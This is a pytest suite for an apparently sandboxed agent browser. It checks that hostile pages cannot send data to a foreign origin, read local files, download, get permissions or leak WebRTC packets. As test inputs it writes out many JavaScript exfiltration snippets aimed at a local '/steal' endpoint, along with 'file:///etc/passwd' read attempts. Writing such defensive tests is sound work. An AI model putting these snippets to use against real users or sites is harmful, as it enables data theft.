"""A page that tries to get out: nothing of it may reach another origin, this computer or the agent."""

from __future__ import annotations

import socket

import pytest

from tests.browser.conftest import Browser, until
from tests.browser.site import Site

PRELUDE = """
window.over = false;
const done = () => { window.over = true }, soon = () => setTimeout(done, 400);
const add = (tag, values) => {
  const made = Object.assign(document.createElement(tag), {onload: done, onerror: done}, values);
  document.body.append(made);
  return made;
};
"""
# What a page may try; {far} is a foreign origin, {host} its host and port. Each ends with done().
REQUESTS = {
    "fetch": "fetch('{far}/steal', {{mode: 'no-cors'}}).then(done, done)",
    "xhr": "const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', '{far}/steal'); x.send()",
    "beacon": "navigator.sendBeacon('{far}/steal', 'x'); soon()",
    "socket": "const s = new WebSocket('ws://{host}/steal'); s.onclose = s.onerror = done",
    "image": "add('img', {{src: '{far}/steal'}})",
    "script": "add('script', {{src: '{far}/steal'}})",
    "style": "add('link', {{rel: 'stylesheet', href: '{far}/steal'}})",
    "prefetch": "add('link', {{rel: 'prefetch', href: '{far}/steal'}}); soon()",
    "preconnect": "add('link', {{rel: 'preconnect', href: '{far}'}}); soon()",
    "events": "const e = new EventSource('{far}/steal'); e.onerror = done",
    "worker": "const code = `fetch('{far}/steal', {{mode: 'no-cors'}}).finally(() => postMessage(1))`;"
    "const w = new Worker(URL.createObjectURL(new Blob([code]))); w.onmessage = w.onerror = done",
    "redirect": "fetch('/away', {{mode: 'no-cors'}}).then(done, done)",
    "frame": "add('iframe', {{src: '{far}/steal'}}); soon()",
    "ping": "add('a', {{href: '#x', ping: '{far}/steal'}}).click(); soon()",
    "form": "add('form', {{action: '{far}/steal', method: 'post'}}).submit(); soon()",
    "location": "location = '{far}/steal'; soon()",
    "redirected page": "location = '/away'; soon()",
    "window": "window.open('{far}/steal'); soon()",
}


@pytest.mark.parametrize("name", REQUESTS)
def test_no_way_to_another_origin(browser: Browser, site: Site, other: Site, name: str) -> None:
    site.routes["/away"] = lambda request: (302, {"Location": other.origin + "/steal"}, "")
    url = site.page("/", "<p>hostile</p>")
    visit, _ = browser.fill(url, {})
    attack = REQUESTS[name].format(far=other.origin, host=f"127.0.0.1:{other.port}")
    browser.ask(visit, f"{{ {PRELUDE} {attack} }} 1")
    until(lambda: browser.ask(visit, "window.over !== false"))
    assert (other.connections, other.requests) == (0, [])
    assert visit.state.address.startswith(site.origin)
    said = visit.state.problem + "".join(visit.state.notes)
    # Without a click no window is asked for, a hint goes to the proxy alone, and a ping is off.
    assert other.origin in said or name in ("window", "preconnect", "ping")


def test_the_attacks_work_without_the_fence(browser: Browser, site: Site, other: Site) -> None:
    """Proof that the foreign site would have heard of it."""
    other.page("/steal", "")
    url = site.page("/", "<p>hostile</p>")
    visit, _ = browser.fill(url, {}, origins=(site.origin, other.origin))
    browser.ask(visit, f"fetch('{other.origin}/steal', {{mode: 'no-cors'}}); 1")
    until(lambda: other.seen("/steal"))


def test_a_redirect_from_the_first_address_ends_the_visit(browser: Browser, site: Site, other: Site) -> None:
    site.routes["/"] = lambda request: (302, {"Location": other.origin + "/"}, "")
    browser.open(site.origin + "/", fill={"#a": "private"})
    answer = browser.answer()
    assert answer.verdict == "failed"
    assert other.origin in answer.reason
    assert other.connections == 0


def test_a_page_that_leaves_while_it_is_filled(browser: Browser, site: Site, other: Site) -> None:
    """A page with the same names elsewhere gets nothing of what is still to be typed."""
    page = f"<input id=a onchange=\"location = '{other.origin}/same'\">"
    other.page("/same", "<input id=a><input id=b>")
    visit = browser.open(site.page("/", page), fill={"#a": "1", "#b": "2"}, timeout_ms=5000)
    until(lambda: visit.state.phase == "agent")
    assert other.origin in visit.state.problem
    assert other.connections == 0
    assert [one.mark for one in visit.state.fields][1] == "waiting"


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "data:text/html,x",
        "javascript:done()",
        "qrc:/x",
        "chrome://crash",
        "view-source:http://x",
    ],
)
def test_no_other_scheme(browser: Browser, site: Site, address: str) -> None:
    url = site.page(
        "/", f"<a id=go href='{address}'>go</a><script>function done() {{ window.ran = 1 }}</script>"
    )
    visit, _ = browser.fill(url, {})
    browser.ask(visit, "document.getElementById('go').click(); 1")
    assert browser.ask(visit, "location.pathname") == "/"
    page = visit.page
    assert page is not None
    assert page.url().toString() == url
    assert visit.state.phase == "agent"


def test_a_file_in_a_frame_or_by_script(browser: Browser, site: Site) -> None:
    url = site.page("/", "<iframe id=f src='file:///etc/passwd'></iframe>")
    visit, _ = browser.fill(url, {})
    tried = (
        "fetch('file:///etc/passwd').then(r => r.text())"
        ".then(t => { window.got = t }, () => { window.got = 'no' }); 1"
    )
    browser.ask(visit, tried)
    until(lambda: browser.ask(visit, "window.got || ''"))
    assert browser.ask(visit, "window.got") == "no"
    page = visit.page
    assert page is not None
    inner: list[object] = []
    for frame in page.mainFrame().children():
        frame.runJavaScript("document.documentElement.innerText", 1, inner.append)
    until(lambda: len(inner) == len(page.mainFrame().children()))
    assert "root:" not in str(inner)


def test_no_download(browser: Browser, site: Site, tmp_path: object) -> None:
    site.routes["/file"] = lambda request: (200, {"Content-Disposition": "attachment; filename=x.exe"}, "MZ")
    visit, _ = browser.fill(site.page("/", "<a id=go href=/file download>get</a>"), {})
    browser.ask(visit, "document.getElementById('go').click(); 1")
    until(lambda: visit.state.notes)
    assert visit.state.notes == ("The page wanted to save a file. It was refused.",)


def test_no_permission(browser: Browser, site: Site) -> None:
    visit, _ = browser.fill(site.page("/", ""), {})
    browser.ask(
        visit,
        "const tell = got => () => { window.got = got };"
        "navigator.geolocation.getCurrentPosition(tell('yes'), tell('no')); 1",
    )
    until(lambda: browser.ask(visit, "window.got || ''") == "no")
    browser.ask(
        visit,
        "const say = mic => () => { window.mic = mic };"
        "navigator.mediaDevices.getUserMedia({audio: true}).then(say('yes'), say('no')); 1",
    )
    until(lambda: browser.ask(visit, "window.mic || ''") == "no")
    assert "microphone, the location" in "".join(visit.state.notes)


def test_questions_are_answered_with_no(browser: Browser, site: Site) -> None:
    visit, _ = browser.fill(site.page("/", ""), {})
    assert browser.ask(visit, "String([confirm('sure <b>?'), prompt('pin', '1')])") == "false,"
    assert "The page says: “sure <b>?”" in visit.state.notes


def test_endless_messages_end_the_page(browser: Browser, site: Site) -> None:
    browser.open(site.page("/", "<script>for (;;) alert('x')</script>"))
    answer = browser.answer()
    assert answer.reason == "The page showed one message after another and was closed."


def test_an_endless_loop_does_not_hold_the_window(browser: Browser, site: Site) -> None:
    browser.open(site.page("/", "<script>for (;;);</script>"), timeout_ms=500)
    assert browser.answer().reason == "The web page did not open in time."


def test_a_page_that_is_left_asks_nothing(browser: Browser, site: Site) -> None:
    visit, _ = browser.fill(
        site.page("/", "<script>onbeforeunload = e => { e.preventDefault(); return 'x' }</script>"), {}
    )
    visit.give_up()
    assert browser.answer().verdict == "failed"


def test_no_packet_past_the_proxy(browser: Browser, site: Site) -> None:
    """WebRTC speaks UDP, which no request list sees."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as far:
        far.bind(("127.0.0.1", 0))
        far.setblocking(False)
        visit, _ = browser.fill(site.page("/", ""), {})
        stun = f"stun:127.0.0.1:{far.getsockname()[1]}"
        browser.ask(
            visit,
            f"""const p = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}});
            p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
            setTimeout(() => {{ window.over = true }}, 1500); 1""",
        )
        until(lambda: browser.ask(visit, "window.over || false"))
        with pytest.raises(BlockingIOError):
            far.recv(2048)


def test_a_hostile_proxy_answer_is_not_trusted(browser: Browser, site: Site) -> None:
    """A site that asks for a password gets none, and opens no dialog."""
    site.routes["/"] = lambda request: (401, {"WWW-Authenticate": 'Basic realm="x"'}, "")
    visit = browser.open(site.origin + "/", timeout_ms=3000)
    until(lambda: visit.state.notes or visit.state.phase != "opening")
    assert "password" in "".join(visit.state.notes)
